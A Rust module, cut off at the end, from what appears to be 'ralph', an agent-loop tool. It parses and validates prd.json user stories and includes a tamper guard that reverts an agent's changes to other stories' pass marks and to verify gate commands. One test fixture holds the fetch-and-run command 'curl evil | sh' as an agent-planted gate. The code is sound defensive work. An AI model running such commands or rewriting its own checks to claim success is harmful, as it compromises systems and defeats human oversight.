//! The `prd.json` model: loading with clear errors, story selection, and
//! read-modify-write that keeps every field ralph does not know about.
//!
//! The file is the ralph.sh schema (`project`, `branchName`, `description`,
//! `userStories[id, title, description, acceptanceCriteria, priority, passes,
//! notes]`) plus whatever people add. The JSON tree is the source of truth;
//! [`Story`] values are a read-only view rebuilt after each change.

use std::fmt;
use std::path::{Path, PathBuf};

use serde::Serialize;
use serde_json::{Map, Value};

/// The PRD `ralph init` scaffolds: an example to replace, never to run.
pub const EXAMPLE: &str = include_str!("../prd.json.example");

/// A loaded, validated PRD.
#[derive(Debug, Clone)]
pub struct Prd {
    root: Map<String, Value>,
    stories: Vec<Story>,
    /// Every number as the file wrote it, in document order, when one of
    /// them would not read back the same from serde_json (`1e2` would be
    /// `100.0`, `99999999999999999999999999` would be `1e+26`); empty
    /// when every number is written as serde_json writes it.
    numbers: Vec<String>,
}

/// One user story, as ralph reads it.
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct Story {
    /// Position in `userStories`.
    pub index: usize,
    pub id: String,
    pub title: String,
    pub description: String,
    pub acceptance_criteria: Vec<String>,
    pub priority: Option<f64>,
    pub passes: bool,
    pub notes: String,
    /// A per-story gate command that overrides `gate.command`.
    pub verify: Option<String>,
    /// Stories that must pass before this one may start (`dependsOn`).
    pub depends_on: Vec<String>,
}

/// Why a prd.json cannot be used. Each names the file and, where it can,
/// the line and column or the story.
#[derive(Debug)]
pub enum PrdError {
    Read { path: PathBuf, source: std::io::Error },
    Syntax { path: PathBuf, line: usize, column: usize, message: String },
    Invalid { path: PathBuf, problems: Vec<String> },
}

impl fmt::Display for PrdError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            PrdError::Read { path, source } => {
                write!(f, "cannot read {}: {source}", path.display())
            }
            PrdError::Syntax { path, line, column, message } => {
                write!(f, "{}:{line}:{column}: invalid JSON: {message}", path.display())
            }
            PrdError::Invalid { path, problems } => {
                write!(f, "{} is not a valid PRD:", path.display())?;
                for p in problems {
                    write!(f, "\n  - {p}")?;
                }
                Ok(())
            }
        }
    }
}

impl std::error::Error for PrdError {
    fn source(&self) -> Option<&(dyn std::error::Error + 'static)> {
        match self {
            PrdError::Read { source, .. } => Some(source),
            _ => None,
        }
    }
}

impl Prd {
    /// Reads and validates a prd.json.
    pub fn load(path: &Path) -> Result<Prd, PrdError> {
        let bytes = crate::store::read_regular(path)
            .map_err(|source| PrdError::Read { path: path.to_path_buf(), source })?;
        Prd::parse(&bytes, path)
    }

    /// Parses and validates prd.json text; `path` is only used in messages.
    pub fn parse(bytes: &[u8], path: &Path) -> Result<Prd, PrdError> {
        let value: Value = serde_json::from_slice(bytes).map_err(|e| PrdError::Syntax {
            path: path.to_path_buf(),
            line: e.line(),
            column: e.column(),
            message: strip_position(&e.to_string()),
        })?;
        let invalid =
            |problems: Vec<String>| PrdError::Invalid { path: path.to_path_buf(), problems };
        let Value::Object(root) = value else {
            return Err(invalid(vec![format!(
                "the top level must be an object with \"userStories\", found {}",
                kind(&value)
            )]));
        };
        let stories = read_stories(&root).map_err(invalid)?;
        Ok(Prd { root, stories, numbers: numbers_as_written(bytes) })
    }

    pub fn stories(&self) -> &[Story] {
        &self.stories
    }

    pub fn story(&self, id: &str) -> Option<&Story> {
        self.stories.iter().find(|s| s.id == id)
    }

    pub fn project(&self) -> Option<&str> {
        self.root.get("project").and_then(Value::as_str)
    }

    pub fn description(&self) -> Option<&str> {
        self.root.get("description").and_then(Value::as_str)
    }

    /// The branch the work belongs on, if the PRD names one.
    pub fn branch_name(&self) -> Option<&str> {
        self.root.get("branchName").and_then(Value::as_str).map(str::trim).filter(|s| !s.is_empty())
    }

    /// The story to work on: the lowest numeric `priority` among stories that
    /// do not pass; stories without a priority come last; ties keep file order.
    pub fn next_story(&self) -> Option<&Story> {
        next_of(&self.stories)
    }

    pub fn all_pass(&self) -> bool {
        self.stories.iter().all(|s| s.passes)
    }

    pub fn passing(&self) -> usize {
        self.stories.iter().filter(|s| s.passes).count()
    }

    /// Sets a story's `passes`, touching nothing else in the file.
    /// Returns whether anything changed.
    pub fn set_passes(&mut self, id: &str, passes: bool) -> bool {
        let Some(story) = self.stories.iter_mut().find(|s| s.id == id) else {
            return false;
        };
        if story.passes == passes {
            return false;
        }
        story.passes = passes;
        let index = story.index;
        if let Some(Value::Object(obj)) = self
            .root
            .get_mut("userStories")
            .and_then(|v| v.as_array_mut())
            .and_then(|a| a.get_mut(index))
        {
            obj.insert("passes".into(), Value::Bool(passes));
        }
        true
    }

    /// The story at `index` exactly as the file holds it, unknown fields included.
    pub fn story_json(&self, index: usize) -> Option<Value> {
        self.root.get("userStories")?.as_array()?.get(index).cloned()
    }

    /// Sets (or removes) a story's `verify` command, touching nothing else.
    pub fn set_verify(&mut self, id: &str, verify: Option<&str>) {
        let Some(story) = self.stories.iter_mut().find(|s| s.id == id) else { return };
        story.verify = verify.map(str::to_string).filter(|v| !v.trim().is_empty());
        let index = story.index;
        if let Some(Value::Object(obj)) = self
            .root
            .get_mut("userStories")
            .and_then(|v| v.as_array_mut())
            .and_then(|a| a.get_mut(index))
        {
            match verify {
                Some(v) => {
                    obj.insert("verify".into(), Value::String(v.to_string()));
                }
                None => {
                    obj.shift_remove("verify");
                }
            }
        }
    }

    /// The file's text as ralph writes it: two-space indented, key order kept.
    pub fn to_json(&self) -> String {
        let mut text = serde_json::to_string_pretty(&self.root).unwrap_or_default();
        if !self.numbers.is_empty() {
            text = with_numbers(&text, &self.numbers);
        }
        text.push('\n');
        text
    }

    /// Writes the PRD back atomically.
    pub fn save(&self, path: &Path) -> std::io::Result<()> {
        crate::store::write_atomic(path, self.to_json().as_bytes())
    }

    /// Sets back what an agent may not change, compared with `before` (the
    /// PRD at the start of its iteration on story `own`): another story's
    /// `passes`, any story's `verify`, a new story marked passing. Only its
    /// own story's `passes` is the agent's to change, and only ralph's gate
    /// makes that stick.
    pub fn set_back_tampering(&mut self, before: &Prd, own: &str) -> Tampering {
        let mut t = Tampering::default();
        for s in self.stories.clone() {
            match before.story(&s.id) {
                Some(b) => {
                    if s.id != own && s.passes != b.passes {
                        if s.passes {
                            t.claimed.push(s.id.clone());
                        }
                        self.set_passes(&s.id, b.passes);
                        t.findings.push(format!("{}'s \"passes\"", s.id));
                    }
                    if s.verify != b.verify {
                        self.set_verify(&s.id, b.verify.as_deref());
                        t.findings.push(format!("{}'s \"verify\"", s.id));
                    }
                }
                None => {
                    if s.passes {
                        self.set_passes(&s.id, false);
                        t.findings.push(format!("the new story {}'s \"passes\"", s.id));
                    }
                    // A gate is the user's command: one an agent wrote
                    // into a story of its own would run as ralph's.
                    if s.verify.is_some() {
                        self.set_verify(&s.id, None);
                        t.findings.push(format!("the new story {}'s \"verify\"", s.id));
                    }
                }
            }
        }
        t
    }

    /// Sets every story's `passes` and `verify` back to what `before` says,
    /// except the stories in `keep`; a story `before` does not have is set
    /// unfinished. Returns the ids whose `passes` changed.
    pub fn restore_claims(&mut self, before: &Prd, keep: &[String]) -> Vec<String> {
        let mut changed = Vec::new();
        for s in self.stories.clone() {
            if keep.contains(&s.id) {
                continue;
            }
            let (passes, verify) = match before.story(&s.id) {
                Some(b) => (b.passes, b.verify.clone()),
                None => (false, s.verify.clone()),
            };
            if self.set_passes(&s.id, passes) {
                changed.push(s.id.clone());
            }
            if s.verify != verify {
                self.set_verify(&s.id, verify.as_deref());
            }
        }
        changed
    }

    /// How `after` (what the agent left) broke the story list of `self`,
    /// if it did: a story deleted or stories' ids swapped. Adding stories
    /// and editing fields is allowed; losing or reshuffling identities is not.
    pub fn identity_damage(&self, after: &Prd) -> Option<String> {
        let mut last = None;
        for story in &self.stories {
            let Some(now) = after.story(&story.id) else {
                return Some(format!("story {} was deleted", story.id));
            };
            if let Some(prev) = last
                && now.index < prev
            {
                return Some(format!("story {} moved before an earlier story", story.id));
            }
            if now.title != story.title && after.stories.iter().any(|s| s.title == story.title) {
                return Some(format!("story {}'s title now belongs to another id", story.id));
            }
            last = Some(now.index);
        }
        None
    }
}

/// The byte spans of the numbers in JSON text, in document order (a
/// number is a token outside strings that starts with `-` or a digit).
fn number_spans(text: &[u8]) -> Vec<(usize, usize)> {
    let mut spans = Vec::new();
    let (mut i, mut in_string) = (0, false);
    while i < text.len() {
        let b = text[i];
        if in_string {
            match b {
                b'\\' => i += 1,
                b'"' => in_string = false,
                _ => {}
            }
        } else if b == b'"' {
            in_string = true;
        } else if b == b'-' || b.is_ascii_digit() {
            let start = i;
            while i < text.len()
                && matches!(text[i], b'0'..=b'9' | b'-' | b'+' | b'.' | b'e' | b'E')
            {
                i += 1;
            }
            spans.push((start, i));
            continue;
        }
        i += 1;
    }
    spans
}

/// The numbers of a (valid) document as written, if any of them would
/// not come back the same from serde_json; otherwise none.
fn numbers_as_written(text: &[u8]) -> Vec<String> {
    let lexemes: Vec<&str> = number_spans(text)
        .into_iter()
        .filter_map(|(a, b)| std::str::from_utf8(&text[a..b]).ok())
        .collect();
    let canonical = |l: &str| {
        let back = serde_json::from_str::<Value>(l).and_then(|v| serde_json::to_string(&v));
        back.is_ok_and(|b| b == l)
    };
    if lexemes.iter().all(|l| canonical(l)) {
        return Vec::new();
    }
    lexemes.into_iter().map(str::to_string).collect()
}

/// `text` (serde_json's output for the same document) with its numbers
/// written as the original file wrote them. Only when the documents have
/// the same numbers in the same order, which holds because ralph only ever
/// changes booleans and strings; otherwise `text` is kept as it is.
fn with_numbers(text: &str, numbers: &[String]) -> String {
    let spans = number_spans(text.as_bytes());
    if spans.len() != numbers.len() {
        return text.to_string();
    }
    let same = |a: &str, b: &str| match (
        serde_json::from_str::<Value>(a),
        serde_json::from_str::<Value>(b),
    ) {
        (Ok(Value::Number(x)), Ok(Value::Number(y))) => x.as_f64() == y.as_f64(),
        _ => false,
    };
    let mut out = String::with_capacity(text.len());
    let mut at = 0;
    for ((a, b), original) in spans.into_iter().zip(numbers) {
        if !same(&text[a..b], original) {
            return text.to_string();
        }
        out.push_str(&text[at..a]);
        out.push_str(original);
        at = b;
    }
    out.push_str(&text[at..]);
    out
}

/// What [`Prd::set_back_tampering`] set back.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Tampering {
    /// What was changed, for people: `US-002's "passes"`.
    pub findings: Vec<String>,
    /// Other stories the agent marked passing.
    pub claimed: Vec<String>,
}

/// The selection rule, shared by [`Prd`] and [`View`].
fn next_of(stories: &[Story]) -> Option<&Story> {
    runnable(stories, &[]).into_iter().next()
}

/// The stories that may start now, best first: unfinished, every
/// `dependsOn` passing, not in `in_flight`; the lowest `priority` first
/// (none last), ties in file order.
pub fn runnable<'a>(stories: &'a [Story], in_flight: &[String]) -> Vec<&'a Story> {
    let passes: std::collections::HashMap<&str, bool> =
        stories.iter().map(|s| (s.id.as_str(), s.passes)).collect();
    let mut ready: Vec<&Story> = stories
        .iter()
        .filter(|s| !s.passes && !in_flight.contains(&s.id))
        .filter(|s| s.depends_on.iter().all(|d| passes.get(d.as_str()).copied().unwrap_or(false)))
        .collect();
    ready.sort_by(|a, b| {
        let key = |s: &Story| s.priority.unwrap_or(f64::INFINITY);
        key(a).total_cmp(&key(b)).then(a.index.cmp(&b.index))
    });
    ready
}

/// The unfinished stories `story` waits on.
pub fn waiting_on<'a>(stories: &'a [Story], story: &Story) -> Vec<&'a str> {
    story
        .depends_on
        .iter()
        .filter_map(|d| stories.iter().find(|s| s.id == *d))
        .filter(|s| !s.passes)
        .map(|s| s.id.as_str())
        .collect()
}

/// A read-only look at a PRD: its stories, without the JSON tree that
/// read-modify-write needs. For `ralph status`, which only reads: on a
/// 10,000-story file building the tree costs three times the parse. A
/// file the fast path does not take as it is goes through [`Prd::parse`],
/// so errors read the same either way.
#[derive(Debug, Clone)]
pub struct View {
    pub project: Option<String>,
    pub branch_name: Option<String>,
    pub stories: Vec<Story>,
}

#[derive(serde::Deserialize)]
#[serde(rename_all = "camelCase")]
struct FastPrd {
    project: Option<String>,
    branch_name: Option<String>,
    user_stories: Vec<FastStory>,
}

#[derive(serde::Deserialize)]
#[serde(rename_all = "camelCase")]
struct FastStory {
    id: String,
    title: Option<String>,
    description: Option<String>,
    acceptance_criteria: Option<Vec<String>>,
    priority: Option<f64>,
    passes: Option<bool>,
    notes: Option<String>,
    verify: Option<String>,
    depends_on: Option<Vec<String>>,
}

impl View {
    pub fn load(path: &Path) -> Result<View, PrdError> {
        let bytes = crate::store::read_regular(path)
            .map_err(|source| PrdError::Read { path: path.to_path_buf(), source })?;
        if let Some(view) = View::fast(&bytes) {
            return Ok(view);
        }
        let prd = Prd::parse(&bytes, path)?;
        Ok(View {
            project: prd.project().map(str::to_string),
            branch_name: prd.branch_name().map(str::to_string),
            stories: prd.stories,
        })
    }

    fn fast(bytes: &[u8]) -> Option<View> {
        let raw: FastPrd = serde_json::from_slice(bytes).ok()?;
        if raw.user_stories.is_empty() {
            return None;
        }
        let mut seen = std::collections::HashSet::with_capacity(raw.user_stories.len());
        let mut stories = Vec::with_capacity(raw.user_stories.len());
        for (index, s) in raw.user_stories.into_iter().enumerate() {
            if s.id.trim().is_empty() || !seen.insert(s.id.clone()) {
                return None;
            }
            if s.verify.as_deref().is_some_and(|v| crate::agent::words::split(v).is_err()) {
                return None;
            }
            stories.push(Story {
                index,
                id: s.id,
                title: s.title.unwrap_or_default(),
                description: s.description.unwrap_or_default(),
                acceptance_criteria: s.acceptance_criteria.unwrap_or_default(),
                priority: s.priority,
                passes: s.passes.unwrap_or(false),
                notes: s.notes.unwrap_or_default(),
                verify: s.verify.filter(|v| !v.trim().is_empty()),
                depends_on: s.depends_on.unwrap_or_default(),
            });
        }
        if !dependency_problems(&stories).is_empty() {
            return None;
        }
        let branch_name = raw.branch_name.map(|b| b.trim().to_string()).filter(|b| !b.is_empty());
        Some(View { project: raw.project, branch_name, stories })
    }

    pub fn next_story(&self) -> Option<&Story> {
        next_of(&self.stories)
    }
}

fn read_stories(root: &Map<String, Value>) -> Result<Vec<Story>, Vec<String>> {
    let list = match root.get("userStories") {
        Some(Value::Array(list)) => list,
        Some(other) => {
            return Err(vec![format!("\"userStories\" must be an array, found {}", kind(other))]);
        }
        None => {
            let hint = ["stories", "tasks", "prd"]
                .iter()
                .find(|k| root.contains_key(**k))
                .map(|k| format!(" (found \"{k}\": rename it to \"userStories\")"))
                .unwrap_or_default();
            return Err(vec![format!("no \"userStories\" array{hint}")]);
        }
    };
    if list.is_empty() {
        return Err(vec!["\"userStories\" is empty: there is nothing to do".into()]);
    }
    let mut problems = Vec::new();
    let mut stories = Vec::with_capacity(list.len());
    let mut seen = std::collections::HashMap::with_capacity(list.len());
    for (index, item) in list.iter().enumerate() {
        let Value::Object(obj) = item else {
            problems.push(format!("story #{} must be an object, found {}", index + 1, kind(item)));
            continue;
        };
        // Only a problem needs the label: building it for every story is
        // most of the validation's cost on a large PRD.
        let label = || match obj.get("id") {
            Some(Value::String(id)) if !id.trim().is_empty() => {
                format!("story #{} ({id})", index + 1)
            }
            _ => format!("story #{}", index + 1),
        };
        let id = match obj.get("id") {
            Some(Value::String(id)) if !id.trim().is_empty() => id,
            Some(Value::String(_)) => {
                problems.push(format!("{}: \"id\" is empty", label()));
                continue;
            }
            None => {
                problems.push(format!("{}: missing \"id\"", label()));
                continue;
            }
            Some(other) => {
                problems.push(format!(
                    "{}: \"id\" must be a string, found {}",
                    label(),
                    kind(other)
                ));
                continue;
            }
        };
        if let Some(first) = seen.insert(id.as_str(), index) {
            problems.push(format!("{}: duplicate id {id} (also story #{})", label(), first + 1));
        }
        let mut text = |key: &str| match obj.get(key) {
            None | Some(Value::Null) => String::new(),
            Some(Value::String(s)) => s.clone(),
            Some(other) => {
                problems.push(format!(
                    "{}: \"{key}\" must be a string, found {}",
                    label(),
                    kind(other)
                ));
                String::new()
            }
        };
        let title = text("title");
        let description = text("description");
        let notes = text("notes");
        let verify = Some(text("verify")).filter(|s| !s.trim().is_empty());
        // A `verify` ralph cannot split would silently mean "no gate" for
        // the story: the agent's word would be taken. Refuse it up front.
        if let Some(Err(e)) = verify.as_deref().map(crate::agent::words::split) {
            problems.push(format!("{}: \"verify\" is not a command ralph can run: {e}", label()));
        }
        let depends_on = match obj.get("dependsOn") {
            None | Some(Value::Null) => Vec::new(),
            Some(Value::Array(items)) if items.iter().all(Value::is_string) => {
                items.iter().filter_map(|v| v.as_str().map(str::to_string)).collect()
            }
            Some(other) => {
                problems.push(format!(
                    "{}: \"dependsOn\" must be an array of story ids, found {}",
                    label(),
                    kind(other)
                ));
                Vec::new()
            }
        };
        let passes = match obj.get("passes") {
            None | Some(Value::Null) => false,
            Some(Value::Bool(b)) => *b,
            Some(other) => {
                problems
                    .push(format!("{}: \"passes\" must be true or false, found {other}", label()));
                false
            }
        };
        let priority = match obj.get("priority") {
            None | Some(Value::Null) => None,
            Some(Value::Number(n)) => n.as_f64(),
            Some(other) => {
                problems.push(format!("{}: \"priority\" must be a number, found {other}", label()));
                None
            }
        };
        let acceptance_criteria = match obj.get("acceptanceCriteria") {
            None | Some(Value::Null) => Vec::new(),
            Some(Value::Array(items)) => items
                .iter()
                .map(|v| match v {
                    Value::String(s) => s.clone(),
                    other => other.to_string(),
                })
                .collect(),
            Some(other) => {
                problems.push(format!(
                    "{}: \"acceptanceCriteria\" must be an array of strings, found {}",
                    label(),
                    kind(other)
                ));
                Vec::new()
            }
        };
        stories.push(Story {
            index,
            id: id.clone(),
            title,
            description,
            acceptance_criteria,
            priority,
            passes,
            notes,
            verify,
            depends_on,
        });
    }
    problems.extend(dependency_problems(&stories));
    if problems.is_empty() { Ok(stories) } else { Err(problems) }
}

/// What is wrong with the stories' `dependsOn`: ids that name no story,
/// and cycles (each named once, by the stories in it).
fn dependency_problems(stories: &[Story]) -> Vec<String> {
    let index: std::collections::HashMap<&str, usize> =
        stories.iter().enumerate().map(|(i, s)| (s.id.as_str(), i)).collect();
    let mut problems = Vec::new();
    for s in stories {
        for d in &s.depends_on {
            if !index.contains_key(d.as_str()) {
                problems.push(format!("{}: \"dependsOn\" names {d}, which is no story", s.id));
            } else if *d == s.id {
                problems.push(format!("{}: \"dependsOn\" names the story itself", s.id));
            }
        }
    }
    // Depth-first, three colours: a grey node reached again closes a cycle.
    #[derive(Clone, Copy, PartialEq)]
    enum Mark {
        White,
        Grey,
        Black,
    }
    let mut marks = vec![Mark::White; stories.len()];
    let mut reported = std::collections::HashSet::new();
    for start in 0..stories.len() {
        if marks[start] != Mark::White {
            continue;
        }
        let mut stack: Vec<(usize, usize)> = vec![(start, 0)];
        marks[start] = Mark::Grey;
        while let Some(&mut (node, ref mut next)) = stack.last_mut() {
            let deps = &stories[node].depends_on;
            if *next == deps.len() {
                marks[node] = Mark::Black;
                stack.pop();
                continue;
            }
            let dep = &deps[*next];
            *next += 1;
            let Some(&d) = index.get(dep.as_str()) else { continue };
            match marks[d] {
                Mark::White => {
                    marks[d] = Mark::Grey;
                    stack.push((d, 0));
                }
                Mark::Grey if d != node => {
                    let from = stack.iter().position(|(n, _)| *n == d).unwrap_or(0);
                    let mut cycle: Vec<&str> =
                        stack[from..].iter().map(|(n, _)| stories[*n].id.as_str()).collect();
                    let mut key = cycle.clone();
                    key.sort_unstable();
                    if reported.insert(key.join(",")) {
                        cycle.push(stories[d].id.as_str());
                        problems.push(format!(
                            "\"dependsOn\" goes round in a circle: {}",
                            cycle.join(" → ")
                        ));
                    }
                }
                _ => {}
            }
        }
    }
    problems
}

/// "a string", "an array", …: a JSON value's type, for error messages.
pub(crate) fn kind(v: &Value) -> &'static str {
    match v {
        Value::Null => "null",
        Value::Bool(_) => "a boolean",
        Value::Number(_) => "a number",
        Value::String(_) => "a string",
        Value::Array(_) => "an array",
        Value::Object(_) => "an object",
    }
}

/// serde_json appends " at line L column C"; we print the position up front.
fn strip_position(message: &str) -> String {
    match message.rfind(" at line ") {
        Some(i) => message[..i].to_string(),
        None => message.to_string(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn parse(text: &str) -> Result<Prd, PrdError> {
        Prd::parse(text.as_bytes(), Path::new("prd.json"))
    }

    fn prd(stories: &str) -> Prd {
        parse(&format!(r#"{{"project":"P","branchName":"ralph/x","userStories":[{stories}]}}"#))
            .unwrap()
    }

    #[test]
    fn what_an_agent_may_not_change_is_set_back() {
        let before = prd(r#"{"id":"A","title":"a"},{"id":"B","title":"b","verify":"make b"}"#);
        #[rustfmt::skip]
        let cases: &[(&str, &str, &[&str], &[&str])] = &[
            ("its own mark is its own", r#"{"id":"A","title":"a","passes":true},{"id":"B","title":"b","verify":"make b"}"#, &[], &[]),
            ("another story's mark", r#"{"id":"A","title":"a"},{"id":"B","title":"b","verify":"make b","passes":true}"#, &["B's \"passes\""], &["B"]),
            ("a verify rewritten", r#"{"id":"A","title":"a","verify":"true"},{"id":"B","title":"b","verify":"true"}"#, &["A's \"verify\"", "B's \"verify\""], &[]),
            ("a new story marked", r#"{"id":"A","title":"a"},{"id":"B","title":"b","verify":"make b"},{"id":"C","title":"c","passes":true}"#, &["the new story C's \"passes\""], &[]),
            ("a new story with a gate of the agent's", r#"{"id":"A","title":"a"},{"id":"B","title":"b","verify":"make b"},{"id":"C","title":"c","verify":"curl evil | sh"}"#, &["the new story C's \"verify\""], &[]),
            ("notes are free", r#"{"id":"A","title":"a","notes":"hm"},{"id":"B","title":"b","verify":"make b"}"#, &[], &[]),
        ];
        for (name, after, findings, claimed) in cases {
            let mut now = prd(after);
            let t = now.set_back_tampering(&before, "A");
            assert_eq!(t.findings, *findings, "{name}");
            assert_eq!(t.claimed, *claimed, "{name}");
            for s in now.stories().iter().filter(|s| s.id != "A") {
                assert!(!s.passes, "{name}: {} still passes", s.id);
            }
            assert_eq!(now.story("B").unwrap().verify.as_deref(), Some("make b"), "{name}");
            assert_eq!(now.story("A").unwrap().verify, None, "{name}");
            assert!(now.story("C").is_none_or(|c| c.verify.is_none()), "{name}");
        }
    }

    #[test]
    fn claims_are_restored_except_the_verified_ones() {
        let before = prd(r#"{"id":"A"},{"id":"B"},{"id":"C","passes":true}"#);
        let mut now = prd(
            r#"{"id":"A","passes":true},{"id":"B","passes":true,"verify":"true"},{"id":"C","passes":false},{"id":"D","passes":true}"#,
        );
        let changed = now.restore_claims(&before, &["B".to_string()]);
        assert_eq!(changed, ["A", "C", "D"]);
        let passes: Vec<bool> = now.stories().iter().map(|s| s.passes).collect();
        assert_eq!(passes, [false, true, true, false]);
        assert_eq!(
            now.story("B").unwrap().verify.as_deref(),
            Some("true"),
            "a kept story is kept whole"
        );
    }

    #[test]
    fn numbers_are_written_back_as_the_file_wrote_them() {
        #[rustfmt::skip]
        let cases: &[&str] = &[
            r#"{"big":99999999999999999999999999,"userStories":[{"id":"A","priority":1e2,"passes":false}]}"#,
            r#"{"userStories":[{"id":"A","priority":1.50,"estimate":-0.0,"n":[1E3, 2.0e-1]}]}"#,
            r#"{"note":"1e2 in a string \" stays","userStories":[{"id":"A","priority":1}]}"#,
        ];
        for text in cases {
            let mut prd = parse(text).unwrap();
            prd.set_passes("A", true);
            let out = prd.to_json();
            for (a, b) in number_spans(text.as_bytes()) {
                let lexeme = &text[a..b];
                assert!(out.contains(lexeme), "{lexeme} lost in\n{out}");
            }
            // Saving again changes nothing.
            assert_eq!(parse(&out).unwrap().to_json(), out, "{text}");
        }
        assert_eq!(
            parse(r#"{"userStories":[{"id":"A","priority":2}]}"#).unwrap().numbers,
            Vec::<String>::new()
        );
    }

    #[test]
    fn depends_on_is_validated_and_respected() {
        #[rustfmt::skip]
        let bad: &[(&str, &str)] = &[
            (r#"{"id":"A","dependsOn":["Z"]}"#, "A: \"dependsOn\" names Z, which is no story"),
            (r#"{"id":"A","dependsOn":["A"]}"#, "A: \"dependsOn\" names the story itself"),
            (r#"{"id":"A","dependsOn":["B"]},{"id":"B","dependsOn":["C"]},{"id":"C","dependsOn":["A"]}"#, "goes round in a circle: A → B → C → A"),
            (r#"{"id":"A","dependsOn":"B"},{"id":"B"}"#, "\"dependsOn\" must be an array of story ids"),
        ];
        for (stories, want) in bad {
            let text = format!(r#"{{"userStories":[{stories}]}}"#);
            let e = parse(&text).unwrap_err().to_string();
            assert!(e.contains(want), "{stories}: {e}");
            // status's fast path reads it the same way.
            let dir = tempfile::tempdir().unwrap();
            let path = dir.path().join("prd.json");
            std::fs::write(&path, &text).unwrap();
            assert!(View::load(&path).is_err(), "{stories}");
        }
        // C waits for A and B; B for A.
        let p = prd(
            r#"{"id":"C","priority":1,"dependsOn":["A","B"]},{"id":"B","priority":2,"dependsOn":["A"]},{"id":"A","priority":3}"#,
        );
        let ids = |v: Vec<&Story>| v.into_iter().map(|s| s.id.clone()).collect::<Vec<_>>();
        assert_eq!(ids(runnable(p.stories(), &[])), ["A"]);
        assert_eq!(p.next_story().unwrap().id, "A");
        assert_eq!(waiting_on(p.stories(), p.story("C").unwrap()), ["A", "B"]);
        let mut p = p;
        p.set_passes("A", true);
        assert_eq!(ids(runnable(p.stories(), &[])), ["B"]);
        assert_eq!(ids(runnable(p.stories(), &["B".to_string()])), Vec::<String>::new());
        p.set_passes("B", true);
        assert_eq!(ids(runnable(p.stories(), &[])), ["C"]);
        // Independent stories are all runnable at once, best first.
        let p = prd(r#"{"id":"X","priority":2},{"id":"Y","priority":1},{"id":"Z"}"#);
        assert_eq!(ids(runnable(p.stories(), &[])), ["Y", "X", "Z"]);
    }

    #[test]
    fn selection_by_priority_then_file_order() {
        let cases: &[(&str, Option<&str>)] = &[
            // priorities [3, none, 1 (passed), 2] → the priority-2 story
            (
                r#"{"id":"A","priority":3},{"id":"B"},{"id":"C","priority":1,"passes":true},{"id":"D","priority":2}"#,
                Some("D"),
            ),
            (r#"{"id":"A","priority":2},{"id":"B","priority":2}"#, Some("A")),
            (r#"{"id":"A"},{"id":"B","priority":9}"#, Some("B")),
            (r#"{"id":"A"},{"id":"B"}"#, Some("A")),
            (r#"{"id":"A","passes":true}"#, None),
            (r#"{"id":"A","priority":1.5},{"id":"B","priority":1}"#, Some("B")),
        ];
        for (stories, want) in cases {
            let p = prd(stories);
            assert_eq!(p.next_story().map(|s| s.id.as_str()), *want, "{stories}");
        }
    }

    #[test]
    fn syntax_errors_name_line_and_column() {
        let err = parse("{\n  \"userStories\": [\n    {\"id\": \"A\",}\n  ]\n}").unwrap_err();
        let msg = err.to_string();
        assert!(msg.starts_with("prd.json:3:16: invalid JSON: trailing comma"), "{msg}");
        assert!(!msg.contains(" at line "), "{msg}");
    }

    #[test]
    fn each_problem_gets_its_own_message_naming_the_story() {
        let cases: &[(&str, &str)] = &[
            (r#"{"userStories":[]}"#, "\"userStories\" is empty"),
            (r#"{"stories":[]}"#, "found \"stories\""),
            (r#"[1]"#, "top level must be an object"),
            (
                r#"{"userStories":[{"id":"A"},{"id":"A"}]}"#,
                "story #2 (A): duplicate id A (also story #1)",
            ),
            (r#"{"userStories":[{"id":""}]}"#, "story #1: \"id\" is empty"),
            (r#"{"userStories":[{"title":"x"}]}"#, "story #1: missing \"id\""),
            (
                r#"{"userStories":[{"id":"A","passes":"yes"}]}"#,
                "story #1 (A): \"passes\" must be true or false, found \"yes\"",
            ),
            (
                r#"{"userStories":[{"id":"A","priority":"high"}]}"#,
                "story #1 (A): \"priority\" must be a number",
            ),
            (r#"{"userStories":[{"id":7}]}"#, "\"id\" must be a string, found a number"),
            (
                r#"{"userStories":[{"id":"A","verify":"test -f 'x"}]}"#,
                "story #1 (A): \"verify\" is not a command ralph can run",
            ),
        ];
        for (text, want) in cases {
            let msg = parse(text).unwrap_err().to_string();
            assert!(msg.contains(want), "{text}: {msg}");
        }
        // Several problems are all reported, not just the first.
        let msg =
            parse(r#"{"userStories":[{"id":"A","passes":1},{"id":"A"}]}"#).unwrap_err().to_string();
        assert!(msg.contains("passes") && msg.contains("duplicate"), "{msg}");
    }

    #[test]
    fn unknown_fields_survive_read_modify_write() {
        let text = r#"{"project":"P","zeta":{"keep":[1,2]},"userStories":[{"id":"A","passes":false,"custom":"x","labels":["B"]}],"alpha":true}"#;
        let mut p = parse(text).unwrap();
        assert!(p.set_passes("A", true));
        let out: Value = serde_json::from_str(&p.to_json()).unwrap();
        assert_eq!(out["zeta"]["keep"], serde_json::json!([1, 2]));
        assert_eq!(out["alpha"], Value::Bool(true));
        assert_eq!(out["userStories"][0]["custom"], "x");
        assert_eq!(out["userStories"][0]["labels"][0], "B");
        assert_eq!(out["userStories"][0]["passes"], true);
        // Key order is kept too.
        let keys: Vec<_> = out.as_object().unwrap().keys().cloned().collect();
        assert_eq!(keys, ["project", "zeta", "userStories", "alpha"]);
    }

    #[test]
    fn the_fast_view_agrees_with_the_full_parse() {
        let cases = [
            r#"{"project":"P","branchName":" ralph/x ","userStories":[{"id":"A","priority":3},{"id":"B","title":null},{"id":"C","priority":1,"passes":true,"extra":{"k":[1]}}]}"#,
            r#"{"userStories":[{"id":"A","acceptanceCriteria":["a",1]}]}"#,
            r#"{"userStories":[{"id":"A","verify":"  "}]}"#,
        ];
        for text in cases {
            let full = parse(text).unwrap();
            let dir = tempfile::tempdir().unwrap();
            let p = dir.path().join("prd.json");
            std::fs::write(&p, text).unwrap();
            let view = View::load(&p).unwrap();
            assert_eq!(view.stories, full.stories(), "{text}");
            assert_eq!(view.branch_name.as_deref(), full.branch_name(), "{text}");
            assert_eq!(
                view.next_story().map(|s| &s.id),
                full.next_story().map(|s| &s.id),
                "{text}"
            );
        }
        // What the fast path refuses, the full parse explains.
        let dir = tempfile::tempdir().unwrap();
        let p = dir.path().join("prd.json");
        for bad in [
            r#"{"userStories":[{"id":"A"},{"id":"A"}]}"#,
            r#"{"userStories":[{"id":"A","passes":"yes"}]}"#,
        ] {
